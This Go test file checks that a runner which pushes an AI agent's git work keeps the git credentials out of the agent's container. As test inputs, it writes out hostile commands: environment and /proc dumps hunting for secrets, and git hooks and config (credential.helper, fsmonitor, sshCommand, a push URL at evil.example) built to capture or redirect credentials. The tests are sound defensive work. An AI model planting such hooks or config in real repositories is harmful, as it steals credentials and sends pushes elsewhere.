package runner

import (
	"cmp"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/yardmaster/yardmaster/api/v1alpha1"
	"github.com/yardmaster/yardmaster/internal/pod/sessiongit"
	"github.com/yardmaster/yardmaster/test/gitserver"
	"github.com/yardmaster/yardmaster/test/output"
	"github.com/yardmaster/yardmaster/test/poll"
	"github.com/yardmaster/yardmaster/test/require"
)

// asRunnerVariable makes this program a session-runner.
const asRunnerVariable = "TEST_AS_RUNNER"

// TestMain lets git start this program to ask for credentials, as session-runner does, and tests start it as a session-runner.
func TestMain(m *testing.M) {
	if sessiongit.IsAskpass() {
		answer, err := sessiongit.Askpass(os.Args[1:], os.Getenv)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Println(answer)
		return
	}
	if os.Getenv(asRunnerVariable) != "" {
		code, err := 0, error(nil)
		if len(os.Args) > 1 && os.Args[1] == "git" {
			err = sessiongit.Run(context.Background(), os.Args[2:], os.Getenv, os.Stderr)
		} else {
			code, err = Run(context.Background(), os.Args[1:], os.Getenv, os.Stdout, os.Stderr)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			code = max(code, 1)
		}
		os.Exit(code)
	}
	directory, err := os.MkdirTemp("", "session-runner")
	if err != nil {
		panic(err)
	}
	testDirectory = directory
	code := m.Run()
	_ = os.RemoveAll(directory)
	os.Exit(code)
}

// testDirectory is for files of several tests.
var testDirectory string

const gitPassword = "token-of-the-forge"

// gitSession is a session with a repository, and the container that clones and pushes it. Both are processes of their own, so that such
// tests run in parallel.
type gitSession struct {
	*testSession

	server      *gitserver.Server
	credentials string
	log         *output.Buffer
	// stopContainer ends the container that was started last, as Kubernetes does after the runner, and waits for its end.
	stopContainer func()
}

// newGitSession starts the container with further arguments, and a password.
func newGitSession(t *testing.T, arguments ...string) *gitSession {
	t.Helper()
	s := prepareGitSession(t)
	writeTestFile(t, filepath.Join(s.credentials, "password"), gitPassword+"\n")
	s.restart(arguments...)
	return s
}

// newAppSession starts the container with a GitHub App instead of a password, and returns the private key of the App.
func newAppSession(t *testing.T) (s *gitSession, key string) {
	t.Helper()
	s = prepareGitSession(t)
	const bits = 2048
	private, err := rsa.GenerateKey(rand.Reader, bits)
	require.NoError(t, err)
	s.server.SetApp("123", &private.PublicKey)
	key = string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(private)}))
	writeTestFile(t, filepath.Join(s.credentials, "githubAppID"), "123\n")
	writeTestFile(t, filepath.Join(s.credentials, "githubAppPrivateKey"), key)
	s.restart("--forge", sessiongit.GitHub)
	return s, key
}

// prepareGitSession returns a session whose container is not started.
func prepareGitSession(t *testing.T) *gitSession {
	t.Helper()
	server, err := gitserver.New(t.Context(), t.TempDir(), "x-access-token", gitPassword)
	require.NoError(t, err)
	t.Cleanup(server.Close)
	s := &gitSession{testSession: newTestSession(t, "Fix it."), server: server, credentials: t.TempDir(), log: &output.Buffer{}}
	s.isProcess = true
	s.set(map[string]string{"GIT_SSL_CAINFO": server.CAFile, "PATH": os.Getenv("PATH"), "REMOTE": server.Repository(), asRunnerVariable: "yes"})
	s.setRepository(&v1alpha1.SessionRepo{GitSource: s.source("main"), AutoPush: true})
	return s
}

func (s *gitSession) source(branch v1alpha1.GitBranch) v1alpha1.GitSource {
	return v1alpha1.GitSource{URL: v1alpha1.GitURL(s.server.CloneURL()), Branch: branch}
}

func (s *gitSession) restart(arguments ...string) {
	s.t.Helper()
	s.startContainer(append([]string{"--credentials", s.credentials, "--repositories", s.server.Host + "/team/*"}, arguments...)...)
}

// startContainer starts the container that clones and pushes, as in a new Pod.
func (s *gitSession) startContainer(arguments ...string) {
	s.t.Helper()
	directory := s.t.TempDir()
	s.set(map[string]string{"AGENTIC_GIT": directory})
	container := s.start(context.WithoutCancel(s.t.Context()), os.Args[0], append([]string{"git", "--directory", directory}, arguments...), s.log)
	ended := make(chan error, 1)
	go func() { ended <- container.Wait() }()
	s.stopContainer = sync.OnceFunc(func() {
		_ = container.Process.Signal(os.Interrupt)
		if err := <-ended; err != nil {
			s.t.Errorf("the container: %v: %s", err, s.log)
		}
	})
	s.t.Cleanup(s.stopContainer)
	poll.Until(s.t, "the container to have read the inputs, which the test may change", func() bool {
		require.True(s.t, len(ended) == 0, "the container ended: %s", s.log)
		_, err := os.Stat(filepath.Join(directory, "git.sock"))
		return err == nil
	})
}

func (s *gitSession) remote(args ...string) string {
	s.t.Helper()
	out, err := s.server.Git(s.t.Context(), args...)
	require.True(s.t, err == nil, "git %v: %v: %s", args, err, out)
	return out
}

func (s *gitSession) repositoryResult() v1alpha1.SessionRepositoryResult {
	s.t.Helper()
	result := s.result()
	require.True(s.t, len(result.Repositories) == 1, "result %+v: %s", result, s.out)
	return result.Repositories[0]
}

const edit = `test -f README && echo fixed > bug.txt
` + finished

const gitHubApp = "GitHub App"

func TestWorkIsClonedCommittedPushedAndProposed(t *testing.T) {
	for _, forge := range []string{sessiongit.GitHub, sessiongit.GitLab, gitHubApp} {
		t.Run(forge, func(t *testing.T) {
			t.Parallel()
			var s *gitSession
			if forge == gitHubApp {
				s, _ = newAppSession(t)
			} else {
				s = newGitSession(t, "--forge", forge)
			}
			s.mustRun("events", edit)
			got := s.repositoryResult()
			require.Equal(t, v1alpha1.SessionRepositoryResult{
				Name: "shop", Branch: "session/demo", Pushed: true, Commit: s.remote("rev-parse", "session/demo"),
				PullRequestURL: "https://" + s.server.Host + "/team/shop/pull/1",
			}, got)
			require.Equal(t, "fixed", s.remote("show", "session/demo:bug.txt"))
			require.Equal(t, "All done. by Agent session demo", s.remote("log", "--format=%s by %an", "main..session/demo"))
			// A second run adds to the branch and finds the open pull request.
			s.set(map[string]string{"AGENTIC_RUN": "2"})
			s.mustRun("events", "echo more > more.txt\n"+finished)
			again := s.repositoryResult()
			require.True(t, again.PullRequestURL == got.PullRequestURL && again.Pushed && s.server.PullRequests() == 1, "result %+v: %s", again, s.out)
		})
	}
}

func TestUnchangedRepositoriesAreNotPushed(t *testing.T) {
	t.Parallel()
	s := newGitSession(t)
	s.mustRun("events", finished)
	got := s.repositoryResult()
	require.True(t, !got.Pushed && got.Error == "" && got.Commit == s.remote("rev-parse", "main"), "result %+v", got)
}

// The next attempt in another, empty workspace continues with the commits of the first one.
func TestPushedWorkIsNotLostWithItsWorkspace(t *testing.T) {
	t.Parallel()
	s := newGitSession(t)
	code, _ := s.run("events", edit+"exit 1")
	require.True(t, code == exitFailure, "code %d: %s", code, s.out)
	s.set(map[string]string{"AGENTIC_WORKSPACE": t.TempDir(), "AGENTIC_ATTEMPT": "2"})
	s.restart()
	s.mustRun("events", "test -f bug.txt && echo more > more.txt\n"+finished)
	got := s.remote("rev-list", "--count", "main..session/demo")
	require.True(t, got == "2", "%s commits: %s", got, s.out)
}

func TestCredentialsOfGitAreNowhereInTheAgentsContainer(t *testing.T) {
	t.Run("a password", func(t *testing.T) {
		t.Parallel()
		lookForCredentials(t, newGitSession(t), func() []string { return []string{gitPassword} })
	})
	t.Run("a GitHub App", func(t *testing.T) {
		t.Parallel()
		s, key := newAppSession(t)
		lookForCredentials(t, s, func() []string {
			return append(slices.Collect(maps.Keys(s.server.AppTokens())), strings.Split(key, "\n")[1])
		})
		s.stopContainer()
		var made []string
		for _, token := range s.server.AppTokens() {
			require.True(t, token.Revoked && token.Repository == "team/shop", "token %+v", token)
			made = append(made, fmt.Sprint(token.Permissions))
		}
		slices.Sort(made)
		want := []string{"map[contents:read metadata:read pull_requests:write]", "map[contents:read metadata:read]", "map[contents:write metadata:read]"}
		require.Equal(t, want, made)
	})
}

// lookForCredentials runs an agent that looks for credentials, and then searches for secrets in all that the agent can read.
func lookForCredentials(t *testing.T, s *gitSession, secrets func() []string) {
	t.Helper()
	const look = `env; cat .git/config; git remote -v; cat /proc/*/cmdline /proc/$PPID/environ 2>/dev/null | tr '\0' '\n'; ls -R "$AGENTIC_GIT"`
	s.mustRun("exec", look+"; "+edit)
	got := s.repositoryResult()
	require.True(t, got.Pushed, "result %+v", got)
	for _, secret := range secrets() {
		for title, text := range map[string]string{"the output": s.out.String(), "the log of the container": s.log.String(), "the result": fmt.Sprintf("%+v", s.result())} {
			require.True(t, !strings.Contains(text, secret), "%s contains %s: %s", title, secret, text)
		}
		for _, directory := range []string{s.environment["AGENTIC_WORKSPACE"], s.environment["AGENTIC_GIT"], s.environment["HOME"]} {
			out, err := exec.Command("grep", "-rl", secret, directory).CombinedOutput()
			require.True(t, err != nil, "files contain %s: %s", secret, out)
		}
	}
}

// An agent can write anything into its repository, also what makes git run programs and send credentials elsewhere. None of
// that runs in the container with the credentials.
func TestHostileRepositoriesDoNotRunProgramsWithTheCredentials(t *testing.T) {
	t.Parallel()
	s := newGitSession(t)
	marker := filepath.Join(t.TempDir(), "marker")
	hostile := fmt.Sprintf(`
test -z "$%[2]s" # the agent has no credentials
for hook in pre-push pre-commit post-commit reference-transaction post-checkout; do
  printf '#!/bin/sh\nif [ -n "$SESSION_GIT_CREDENTIALS" ]; then env > %[1]s; fi\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config url.https://evil.example/.insteadOf %[3]s/
git config remote.origin.pushurl https://evil.example/x.git
git config credential.helper '!env > %[1]s'
git config core.sshCommand 'env > %[1]s'
git config core.fsmonitor 'if [ -n "$SESSION_GIT_CREDENTIALS" ]; then env > %[1]s; fi; false'
`, marker, "SESSION_GIT_CREDENTIALS", s.server.URL)
	s.mustRun("events", hostile+edit)
	got := s.repositoryResult()
	require.True(t, got.Pushed && s.remote("show", "session/demo:bug.txt") == "fixed", "result %+v: %s", got, s.out)
	raw, err := os.ReadFile(marker)
	require.True(t, err != nil, "a program ran with the credentials: %s", raw)
}

func TestOnlyRepositoriesOfTheSessionArePushed(t *testing.T) {
	t.Parallel()
	s := newGitSession(t)
	s.setRepository(&v1alpha1.SessionRepo{GitSource: s.source("main")})
	s.restart()
	client := sessiongit.NewClient(s.environment["AGENTIC_GIT"])
	_, err := client.Clones(t.Context())
	require.NoError(t, err)
	for _, directory := range []string{"shop", "other", "../shop"} {
		push, err := client.Push(t.Context(), directory, "", strings.NewReader("bundle"))
		require.True(t, err != nil, "%s: %+v", directory, push)
	}
	s.mustRun("events", edit)
	got := s.repositoryResult()
	require.True(t, !got.Pushed && got.Branch == "main", "result %+v", got)
	require.Equal(t, "", s.remote("branch", "--list", "session/*"))
}

func TestMalformedBundlesAreRefused(t *testing.T) {
	t.Parallel()
	s := newGitSession(t)
	client := sessiongit.NewClient(s.environment["AGENTIC_GIT"])
	for _, bundle := range []string{"", "nonsense", "# v2 git bundle\n\n", "# v2 git bundle\n" + strings.Repeat("0", 40) + " HEAD\n\nPACK"} {
		push, err := client.Push(t.Context(), "shop", "", strings.NewReader(bundle))
		require.True(t, err == nil && push.Error != "" && !push.Pushed, "%q: %+v, error %v", bundle, push, err)
	}
}

// A push that takes longer than the grace period is one that a server never accepts: its hook waits for the test's end.
func TestATerminatedSessionPushesWhatExistsWithinItsGracePeriod(t *testing.T) {
	const never = "#!/bin/sh\ntouch %[1]s/started; until test -e %[1]s/ended; do sleep 0.1; done\n"
	for title, row := range map[string]struct {
		hook, script string
		// terminate is the file whose creation makes the runner get SIGTERM; empty for never.
		terminate string
		grace     string
		pushed    bool
	}{
		"a normal end":                            {"#!/bin/sh\n", edit, "", "1ns", true},
		"SIGTERM, and a server that works":        {"#!/bin/sh\n", "echo half > bug.txt; touch %[1]s/started; sleep 100", "started", "10m", true},
		"SIGTERM before the agent's end":          {never, "touch %[1]s/started; echo half > bug.txt; sleep 100", "started", "100ms", false},
		"SIGTERM while the server accepts a push": {never, edit, "started", "100ms", false},
	} {
		t.Run(title, func(t *testing.T) {
			t.Parallel()
			s := newGitSession(t)
			directory := t.TempDir()
			t.Cleanup(func() { writeTestFile(t, filepath.Join(directory, "ended"), "") })
			hook := filepath.Join(s.server.Repository(), "hooks", "pre-receive")
			require.NoError(t, os.WriteFile(hook, []byte(strings.ReplaceAll(row.hook, "%[1]s", directory)), 0o700))
			ctx, terminate := context.WithCancel(t.Context())
			defer terminate()
			if row.terminate != "" {
				go func() {
					_ = poll.UntilNil(ctx, func() error { _, err := os.Stat(filepath.Join(directory, row.terminate)); return err })
					terminate()
				}()
			}
			script := strings.ReplaceAll(row.script, "%[1]s", directory)
			_, err := s.runWith(ctx, "--profile", "events", "--grace-period", "100ms", "--push-grace-period", row.grace, "--", "sh", "-c", script)
			require.NoError(t, err)
			got := s.repositoryResult()
			require.True(t, got.Pushed == row.pushed && (got.Error == "") == row.pushed, "result %+v: %s", got, s.out)
		})
	}
}

// Whatever an agent leaves behind, its work is on the server, or the result says why not.
func TestStatesInWhichAnAgentLeavesItsRepository(t *testing.T) {
	const commitAll = `git add --all && git commit --quiet --message=Work
`
	for title, row := range map[string]struct {
		// agent is the script of the agent.
		agent string
		// before is done to the server's repository before it is cloned.
		before func(t *testing.T, s *gitSession)
		// branches of the server, besides main, with the names of the files that they have more than main. The default is the
		// branch of the session with a.txt.
		branches map[string]string
		branch   string
		failure  string
		event    string
	}{
		"changes that are not committed":       {agent: "echo a > a.txt"},
		"its own commits, without an identity": {agent: "echo a > a.txt\n" + commitAll},
		"commits on another branch, which is not checked out": {
			agent: "git checkout -q -b feature; echo a > a.txt\n" + commitAll + "git checkout -q session/demo",
		},
		"commits on several branches": {
			agent: "git checkout -q -b feature/one; echo a > a.txt\n" + commitAll + "git checkout -q -b feature/two session/demo; echo b > b.txt\n" + commitAll +
				"git checkout -q session/demo; echo c > c.txt",
			branches: map[string]string{"session/demo": "c.txt", "session/demo-feature-one": "a.txt", "session/demo-feature-two": "b.txt"},
		},
		"a detached HEAD": {agent: "git checkout -q --detach; echo a > a.txt\n" + commitAll},
		"the lock of a git command that was killed": {agent: "echo a > a.txt; touch .git/index.lock", event: "index.lock"},
		"a merge with conflicts, after a commit": {
			agent: "echo a > a.txt\n" + commitAll + "git checkout -q -b other HEAD~; echo b > a.txt\n" + commitAll +
				"git checkout -q session/demo; git merge -q other >/dev/null 2>&1 && exit 1; true",
			branches: map[string]string{"session/demo": "a.txt", "session/demo-other": "a.txt", "session/demo-unfinished": "a.txt"},
			failure:  "a merge has conflicts in a.txt; the unfinished work is in the branch session/demo-unfinished",
		},
		"conflicts in two working trees": {
			agent: "echo a > a.txt\n" + commitAll + "git checkout -q -b other HEAD~; echo b > a.txt\n" + commitAll +
				"git worktree add -q -b third ../tree session/demo; (git merge -q session/demo || cd ../tree; git merge -q other || true) >/dev/null 2>&1",
			branches: map[string]string{
				"session/demo": "a.txt", "session/demo-session-demo": "a.txt", "session/demo-unfinished": "a.txt", "session/demo-unfinished-2": "a.txt",
			},
			failure: "the unfinished work is in the branch session/demo-unfinished-2",
		},
		"a repository inside, with a commit": {
			agent:    "mkdir gen; cd gen; git init -q; echo a > a.txt; git add a.txt; git -c user.name=a -c user.email=a@b.example commit -q -m inner",
			branches: map[string]string{"session/demo": "gen/a.txt"}, event: "gen/ is a nested repository",
		},
		"repositories inside, without a commit, in each other": {
			agent:    "echo a > a.txt; mkdir -p x/gen/sub; cd x/gen; git init -q; echo b > b.txt; cd sub; git init -q; echo c > c.txt",
			branches: map[string]string{"session/demo": "a.txt x/gen/b.txt x/gen/sub/c.txt"}, event: "nested repository",
		},
		"a branch to which somebody else pushed meanwhile": {
			agent: "echo a > a.txt\n" + commitAll + `git -C "$REMOTE" update-ref refs/heads/session/demo $(git -C "$REMOTE" -c user.name=o -c user.email=o@b.example commit-tree -p main -m Other main^{tree})`,
			// The name of the branch beside it ends with the commit.
			branches: map[string]string{"session/demo": "", "session/demo-*": "a.txt"}, branch: "session/demo-*",
		},
		"a server that fails twice": {agent: "echo a > a.txt", before: func(_ *testing.T, s *gitSession) { s.server.Fail(gitserver.Faults{Pushes: 2}) }},
		"a server that starts late": {agent: "echo a > a.txt", before: func(_ *testing.T, s *gitSession) { s.server.Fail(gitserver.Faults{Requests: 2}) }},
		"a server that accepts no push": {
			agent: "echo a > a.txt", before: func(t *testing.T, s *gitSession) { t.Helper(); setHook(t, s.server, "exit 1") },
			branches: map[string]string{}, branch: "session/demo*", failure: "pre-receive hook declined",
		},
		"a history with a commit that no check accepts": {
			agent: "echo a > a.txt",
			before: func(t *testing.T, s *gitSession) {
				t.Helper()
				const commit = `printf 'tree %s\nparent %s\nauthor A <a@b.example> 1300000000 +051800\ncommitter A <a@b.example> 1300000000 +051800\n\nOld\n' ` +
					`$(git rev-parse main^{tree}) $(git rev-parse main) | git hash-object -t commit -w --literally --stdin`
				s.shell("git update-ref refs/heads/main $(" + commit + ")")
			},
		},
		"a repository with a submodule": {
			agent: "echo a > a.txt",
			before: func(t *testing.T, s *gitSession) {
				t.Helper()
				s.shell(`export GIT_INDEX_FILE=$PWD/submodule.index
git read-tree main
git update-index --add --cacheinfo 160000,$(git rev-parse main),lib
git update-index --add --cacheinfo 100644,$(printf '[submodule "lib"]\n\tpath = lib\n\turl = ../lib.git\n' | git hash-object -w --stdin),.gitmodules
git update-ref refs/heads/main $(git -c user.name=a -c user.email=a@b.example commit-tree -p main -m Submodule $(git write-tree))`)
			}, event: "The submodule lib was not fetched",
		},
	} {
		t.Run(title, func(t *testing.T) {
			t.Parallel()
			if row.branches == nil {
				row.branches = map[string]string{"session/demo": "a.txt"}
			}
			s := newGitSession(t)
			if row.before != nil {
				row.before(t, s)
				s.restart()
			}
			s.mustRun("events", "set -e; (\n"+row.agent+"\n)\n"+finished)
			got := s.repositoryResult()
			matched, _ := path.Match(cmp.Or(row.branch, "session/demo"), got.Branch)
			require.True(t, matched && got.Pushed == (row.failure == ""), "result %+v: %s", got, s.out)
			require.True(t, strings.Contains(got.Error, row.failure) && (row.failure == "") == (got.Error == ""), "result %+v: %s", got, s.out)
			require.Contains(t, s.out.String(), row.event)
			branches := map[string]string{}
			for branch := range strings.FieldsSeq(s.remote("for-each-ref", "--format=%(refname:short)", "refs/heads/session")) {
				files := s.remote("diff", "--name-only", "main..."+branch)
				if rest, found := strings.CutPrefix(branch, "session/demo-"); found && len(rest) == 12 && strings.Trim(rest, "0123456789abcdef") == "" {
					branch = "session/demo-*"
				}
				branches[branch] = strings.Join(strings.Fields(files), " ")
			}
			diff := gocmp.Diff(row.branches, branches)
			require.True(t, diff == "", "files of the branches (-want +got):\n%s\n%s", diff, s.out)
		})
	}
}

// A session accepts what git accepts, and begins at the HEAD of the server if it names no branch.
func TestRepositoriesThatGitAcceptsAreAccepted(t *testing.T) {
	const seedSubmodules = `git init -q --bare -b main ../lib.git; git init -q --bare -b main ../deep.git
tree() { git --git-dir "$1" mktree; }
deep=$(git --git-dir ../deep.git commit-tree -m Deep "$(printf '100644 blob %s\tdeep.txt\n' "$(echo deep | git --git-dir ../deep.git hash-object -w --stdin)" | tree ../deep.git)")
git --git-dir ../deep.git update-ref refs/heads/main "$deep"
modules=$(printf '[submodule "deep"]\n\tpath = deep\n\turl = ../deep.git\n' | git --git-dir ../lib.git hash-object -w --stdin)
lib=$(printf '100644 blob %s\t.gitmodules\n160000 commit %s\tdeep\n100644 blob %s\tlib.txt\n' "$modules" "$deep" "$(echo lib | git --git-dir ../lib.git hash-object -w --stdin)" | git --git-dir ../lib.git mktree --missing)
git --git-dir ../lib.git update-ref refs/heads/main "$(git --git-dir ../lib.git commit-tree -m Old "$lib")"
old=$(git --git-dir ../lib.git rev-parse main)
git --git-dir ../lib.git update-ref refs/heads/main "$(git --git-dir ../lib.git commit-tree -m New "$lib")" # no branch has the old commit
modules=$(printf '[submodule "lib"]\n\tpath = lib\n\turl = ../lib.git\n' | git hash-object -w --stdin)
git update-ref refs/heads/main $(git commit-tree -p main -m Submodule $(printf '100644 blob %s\t.gitmodules\n160000 commit %s\tlib\n' "$modules" "$old" | git mktree --missing))
`
	for title, row := range map[string]struct {
		before, agent string
		files         string
		failure       string
	}{
		"a default branch with another name": {before: "git branch -m main trunk; git symbolic-ref HEAD refs/heads/trunk", agent: "test -f README; echo a > a.txt", files: "README a.txt"},
		"an empty repository":                {before: "git update-ref -d refs/heads/main", agent: "echo a > a.txt", files: "a.txt"},
		"an empty repository, without work":  {before: "git update-ref -d refs/heads/main", agent: "true"},
		"submodules in each other":           {before: seedSubmodules, agent: "grep -q lib lib/lib.txt; grep -q deep lib/deep/deep.txt; echo a > a.txt", files: ".gitmodules a.txt lib"},
		"changes in a submodule": {
			before: seedSubmodules, agent: "echo changed > lib/lib.txt; echo a > a.txt", files: ".gitmodules a.txt lib", failure: "changes in the submodule lib cannot be pushed",
		},
		"commits in a submodule": {
			before: seedSubmodules, agent: "(cd lib; echo changed > lib.txt; git commit -q -a -m Changed); git add lib; git commit -q -m Bump", files: ".gitmodules lib",
			failure: "changes in the submodule lib cannot be pushed",
		},
	} {
		t.Run(title, func(t *testing.T) {
			t.Parallel()
			s := newGitSession(t, "--forge", sessiongit.GitHub)
			s.set(map[string]string{"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b.example", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b.example"})
			s.shell(row.before)
			s.setRepository(&v1alpha1.SessionRepo{GitSource: s.source(""), AutoPush: true})
			s.restart("--forge", sessiongit.GitHub)
			s.mustRun("events", "set -e\n"+row.agent+"\n"+finished)
			got := s.repositoryResult()
			require.True(t, got.Pushed == (row.files != "" && row.failure == ""), "result %+v: %s", got, s.out)
			require.True(t, strings.Contains(got.Error, row.failure) && (row.failure == "") == (got.Error == ""), "result %+v: %s", got, s.out)
			if row.files != "" {
				files := strings.Join(strings.Fields(s.remote("ls-tree", "--name-only", "session/demo")), " ")
				require.True(t, files == row.files, "files %q, want %q: %s", files, row.files, s.out)
			}
			if row.failure != "" {
				require.Equal(t, "changed", s.remote("show", "session/demo-unfinished:lib/lib.txt"))
			}
		})
	}
}

// The branch, its base and a draft are those of the session. A session begins at its base although the server has a branch of its
// name, and only later attempts continue the branch.
func TestWorkIsPushedWhereTheSessionSays(t *testing.T) {
	for _, forge := range []string{sessiongit.GitHub, sessiongit.GitLab} {
		t.Run(forge, func(t *testing.T) {
			t.Parallel()
			s := newGitSession(t)
			s.shell(`git update-ref refs/heads/release main
git update-ref refs/heads/fix/bug $(git -c user.name=o -c user.email=o@b.example commit-tree -p main -m Other main^{tree})`)
			s.setRepository(&v1alpha1.SessionRepo{
				GitSource: s.source("main"), AutoPush: true, Push: v1alpha1.RepoPush{Branch: "fix/bug", Base: "release", Draft: true},
			})
			s.restart("--forge", forge)
			s.mustRun("events", edit)
			got := s.repositoryResult()
			require.True(t, got.Pushed && got.Branch == "fix/bug-"+got.Commit[:12] && s.remote("rev-list", "--count", "main.."+got.Branch) == "1",
				"result %+v: %s", got, s.out)
			pull := s.server.LastPullRequest()
			hasDraft, _ := pull["draft"].(bool)
			require.True(t, hasDraft || strings.HasPrefix(fmt.Sprint(pull["title"]), "Draft: "), "pull request %v", pull)
			require.Contains(t, fmt.Sprint(pull["base"], pull["target_branch"]), "release")
			require.Contains(t, fmt.Sprint(pull["body"], pull["description"]), "fix/bug has other commits")
			s.set(map[string]string{"AGENTIC_ATTEMPT": "2", "AGENTIC_WORKSPACE": t.TempDir()})
			s.restart()
			s.mustRun("events", "echo more > more.txt\n"+finished)
			got = s.repositoryResult()
			require.True(t, got.Branch == "fix/bug" && s.remote("rev-list", "--count", "main..fix/bug") == "2", "result %+v: %s", got, s.out)
		})
	}
}

func (s *gitSession) shell(script string) {
	s.t.Helper()
	command := exec.CommandContext(s.t.Context(), "sh", "-ec", script)
	command.Dir, command.Env = s.server.Repository(), s.environ()
	out, err := command.CombinedOutput()
	require.True(s.t, err == nil, "%v: %s", err, out)
}

// The result has the words of git in one line, which fits into the status of the session.
func TestTheResultTellsWhyACloneFailed(t *testing.T) {
	for title, row := range map[string]struct{ path, branch, password, repositories, want string }{
		"a branch that does not exist":     {branch: "release", password: gitPassword, want: "cloning shop: the repository has no branch release"},
		"a repository that does not exist": {path: "/no-such.git", password: gitPassword, want: "not found"},
		"a password that is wrong":         {password: "wrong", want: "Authentication failed"},
		"a repository that is not listed":  {password: gitPassword, repositories: "git.example/**", want: "add it to git.repositories"},
	} {
		t.Run(title, func(t *testing.T) {
			t.Parallel()
			s := newGitSession(t)
			source := s.source(v1alpha1.GitBranch(row.branch))
			source.URL += v1alpha1.GitURL(row.path)
			s.setRepository(&v1alpha1.SessionRepo{GitSource: source})
			writeTestFile(t, filepath.Join(s.credentials, "password"), row.password)
			s.startContainer("--credentials", s.credentials, "--repositories", cmp.Or(row.repositories, s.server.Host+"/team/**"))
			code, _ := s.run("events", edit)
			require.True(t, code != exitSuccess, "the session is successful")
			got := s.result().Summary
			require.True(t, strings.Contains(got, row.want) && !strings.Contains(got, "\n") && len(got) <= 400, "summary %q", got)
		})
	}
}

// A bundle of new commits is based on the commits that were cloned, so a shallow clone is enough to push.
func TestOnlyAsManyCommitsAsTheDepthAreClonedAndWorkIsPushed(t *testing.T) {
	t.Parallel()
	s := newGitSession(t)
	s.shell("for i in 1 2 3; do git update-ref refs/heads/main $(git -c user.name=a -c user.email=a@b.example commit-tree -p main -m Next main^{tree}); done")
	s.setRepository(&v1alpha1.SessionRepo{GitSource: s.source("main"), AutoPush: true, Depth: new(int32(2))})
	s.restart()
	count := filepath.Join(t.TempDir(), "count")
	s.mustRun("events", "git rev-list --count HEAD > "+count+"\n"+edit)
	raw, err := os.ReadFile(count)
	require.True(t, err == nil && strings.TrimSpace(string(raw)) == "2", "%q commits, error %v", raw, err)
	got := s.repositoryResult()
	require.True(t, got.Pushed && s.remote("rev-list", "--count", "main..session/demo") == "1", "result %+v: %s", got, s.out)
}
